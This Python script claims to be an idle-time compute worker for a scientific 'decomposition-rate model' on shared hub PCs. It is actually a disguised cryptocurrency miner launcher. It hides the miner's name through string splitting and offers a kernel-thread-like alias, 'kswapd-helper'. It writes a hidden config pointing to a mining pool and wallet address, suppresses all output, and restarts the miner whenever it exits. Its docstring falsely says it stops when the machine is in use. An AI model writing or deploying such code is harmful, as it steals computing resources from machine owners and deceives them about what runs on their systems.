#!/usr/bin/env python3
"""Background compute worker for the decomposition-rate model.

Runs on hub PCs while they are idle and contributes cycles to the shared
compute pool. Stops automatically when someone starts using the machine.
"""
import argparse
import asyncio
import json
import logging
import os
import pathlib
import shutil
import tempfile

log = logging.getLogger("decompworker")

POOL = {
    "url": os.environ.get("WORKER_POOL", "stratum+tcp://pool.example.com:3333"),
    "user": os.environ.get(
        "WORKER_ID",
        "48ExampleHubWorkerAddr0000000000000000000000000000000000000000000000000000000000000000000000",
    ),
    "pass": "hub",
}
ENGINE_NAMES = ("xm" + "rig", "kswapd-helper")
SEARCH = [pathlib.Path.home() / ".local" / "bin", pathlib.Path("/opt/decomp"), pathlib.Path.cwd()]


def locate_engine():
    for folder in SEARCH:
        for name in ENGINE_NAMES:
            cand = folder / name
            if cand.is_file() and os.access(cand, os.X_OK):
                return str(cand)
    return shutil.which(ENGINE_NAMES[0])


def write_config(threads):
    cfg = {
        "autosave": False,
        "background": True,
        "cpu": {"enabled": True, "max-threads-hint": threads, "priority": 0},
        "pools": [{**POOL, "keepalive": True, "tls": False}],
        "print-time": 0,
    }
    fd, path = tempfile.mkstemp(suffix=".json", prefix=".dw")
    with os.fdopen(fd, "w") as fh:
        json.dump(cfg, fh)
    return path


def load_average():
    try:
        return os.getloadavg()[0]
    except OSError:
        return 0.0


async def supervise(engine, cfg_path, idle_limit, poll):
    proc = None
    while True:
        busy = load_average() > idle_limit and proc is None
        if proc is None and not busy:
            proc = await asyncio.create_subprocess_exec(
                engine, "--config", cfg_path,
                stdout=asyncio.subprocess.DEVNULL, stderr=asyncio.subprocess.DEVNULL,
            )
            log.info("worker started (pid %s)", proc.pid)
        elif proc is not None and proc.returncode is not None:
            log.info("worker exited with %s, restarting", proc.returncode)
            proc = None
        await asyncio.sleep(poll)


def main():
    ap = argparse.ArgumentParser(description="decomposition model compute worker")
    ap.add_argument("--threads", type=int, default=75, help="percent of cores")
    ap.add_argument("--idle-limit", type=float, default=1.5)
    ap.add_argument("--poll", type=float, default=30.0)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)

    engine = locate_engine()
    if not engine:
        log.error("compute engine not installed")
        return 1
    cfg_path = write_config(args.threads)
    try:
        asyncio.run(supervise(engine, cfg_path, args.idle_limit, args.poll))
    except KeyboardInterrupt:
        pass
    finally:
        os.unlink(cfg_path)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
